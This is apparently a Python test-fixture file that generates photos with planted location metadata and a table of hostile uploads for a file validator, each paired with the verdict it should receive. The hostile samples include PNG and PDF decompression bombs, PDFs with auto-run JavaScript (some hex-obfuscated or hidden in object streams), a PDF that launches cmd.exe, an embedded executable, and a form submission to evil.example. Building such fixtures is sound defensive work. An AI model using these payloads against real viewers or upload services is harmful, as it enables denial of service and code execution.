"""Files as people hand them in, and as they should not be able to. All made here; nobody's papers."""

import io
import struct
import zlib
from typing import Any

from PIL import Image, PngImagePlugin

WHERE = b"30.5928N-114.3055E"  # what a camera writes beside the picture; planted, and looked for afterwards
GPS = 0x8825


def picture(
    form: str = "JPEG", *, size: tuple[int, int] = (64, 48), mode: str = "RGB", **saving: Any
) -> bytes:
    """A picture with a gradient, so that a rotation shows."""
    ramp = Image.linear_gradient("L").resize(size)
    out = io.BytesIO()
    (ramp if mode == "L" else ramp.convert(mode)).save(out, form, **saving)
    return out.getvalue()


def photograph(form: str = "JPEG", *, turned: int = 1) -> bytes:
    """A picture as a telephone makes it: with its place, its device, a comment and a thumbnail's worth of text."""
    exif = Image.Exif()
    exif[0x010F] = "Drill phone"
    exif[0x0112] = turned
    exif.get_ifd(GPS)[29] = WHERE.decode()
    exif.get_ifd(0x8769)[0x9286] = WHERE
    extra: dict[str, Any] = {"exif": exif}
    if form == "JPEG":
        extra["comment"] = WHERE
    if form == "PNG":
        extra["pnginfo"] = PngImagePlugin.PngInfo()
        extra["pnginfo"].add_text("Location", WHERE.decode())
        extra["icc_profile"] = WHERE * 10
    if form == "WEBP":
        extra["xmp"] = b"<x>" + WHERE + b"</x>"
    return picture(form, **extra)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, *chunks: bytes) -> bytes:
    """A PNG whose header says so much; its data need not be there."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    data = png_chunk(b"IDAT", zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + data + png_chunk(b"IEND", b"")


def pdf(*objects: bytes, root: bytes = b"", tail: bytes = b"", version: bytes = b"1.7") -> bytes:
    """A PDF of one page, with more objects and more in its catalogue if asked for."""
    known = [
        b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        stream(b"BT (seal) Tj ET"),
        *objects,
    ]
    out = b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n"
    places = []
    for number, one in enumerate(known, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(known) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(known) + 1)
    return out + b"startxref\n%d\n%%%%EOF\n" % table + tail


def stream(content: bytes, *, about: bytes = b"", packed: bytes | None = None) -> bytes:
    data = zlib.compress(content) if packed is None else packed
    named = b"/Filter /FlateDecode " if packed is None else b""
    return b"<< /Length %d " % len(data) + named + about + b" >>\nstream\n" + data + b"\nendstream"


def objects_in_a_stream(content: bytes, **more: Any) -> bytes:
    return stream(content, about=b"/Type /ObjStm /N 1 /First 4 " + more.pop("about", b""), **more)


SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
REFUSED = {
    "nothing": (b"", "empty"),
    "text": (b"I am a doctor.", "not-taken"),
    "NUL": (b"\0" * 1000, "not-taken"),
    "SVG with a script": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "not-taken",
    ),
    "HTML": (b"<!doctype html><script>alert(1)</script>", "not-taken"),
    "HTML before a JPEG": (b"<script>alert(1)</script>" + picture(), "not-taken"),
    "GIF": (picture("GIF"), "not-taken"),
    "TIFF": (picture("TIFF"), "not-taken"),
    "BMP": (picture("BMP"), "not-taken"),
    "a ZIP": (b"PK\x03\x04" + b"\0" * 100, "not-taken"),
    "a program": (b"MZ" + b"\0" * 100, "not-taken"),
    "half a JPEG": (picture()[:500], "damaged"),
    "half a PNG": (picture("PNG")[:120], "damaged"),
    "half a WebP": (picture("WEBP")[:60], "damaged"),
    "the head of a JPEG and no more": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01", "damaged"),
    "a PNG bomb": (png_of(50_000, 50_000), "too-many-pixels"),
    "a PNG wider than all": (png_of(2**31 - 1, 1), "too-many-pixels"),
    "a PNG with a text bomb": (
        png_of(8, 8, png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 20_000_000))),
        "damaged",
    ),
    "half a PDF": (pdf()[:200], "damaged"),
    "a PDF with a program behind it": (pdf(tail=b"PK\x03\x04" + b"\0" * 100), "more-than-pages"),
    "a PDF behind something else": (b"\n" * 10 + pdf(), "not-taken"),
    "a PDF of no version": (pdf(version=b"9.9"), "not-taken"),
    "a locked PDF": (pdf().replace(b"/Size", b"/Encrypt 9 0 R /Size"), "locked"),
    "a PDF with a script": (pdf(SCRIPT, root=b"/OpenAction 5 0 R"), "more-than-pages"),
    "a PDF with a script in other letters": (
        pdf(SCRIPT.replace(b"/JavaScript", b"/J#61v#61Script").replace(b"/JS", b"/#4a#53")),
        "more-than-pages",
    ),
    "a PDF with a script in a packed stream of objects": (
        pdf(objects_in_a_stream(b"5 0 " + SCRIPT)),
        "more-than-pages",
    ),
    "the same, not said to be one": (pdf(stream(b"5 0 " + SCRIPT)), "more-than-pages"),
    "the same, with a sum that is wrong": (
        pdf(objects_in_a_stream(b"", packed=zlib.compress(b"5 0 " + SCRIPT)[:-4] + b"\0\0\0\0")),
        "more-than-pages",
    ),
    "a PDF with objects packed in a way not looked through": (
        pdf(objects_in_a_stream(b"", packed=b"3020...>", about=b"/Filter /ASCIIHexDecode")),
        "more-than-pages",
    ),
    "a PDF that starts a program": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "more-than-pages"),
    "a PDF with a file inside": (
        pdf(stream(b"MZ", about=b"/Type /EmbeddedFile"), root=b"/Names << /EmbeddedFiles 6 0 R >>"),
        "more-than-pages",
    ),
    "a PDF that sends a form": (pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), "more-than-pages"),
    "a PDF that unpacks without end": (pdf(stream(b"a" * 60_000_000)), "too-hard"),
}
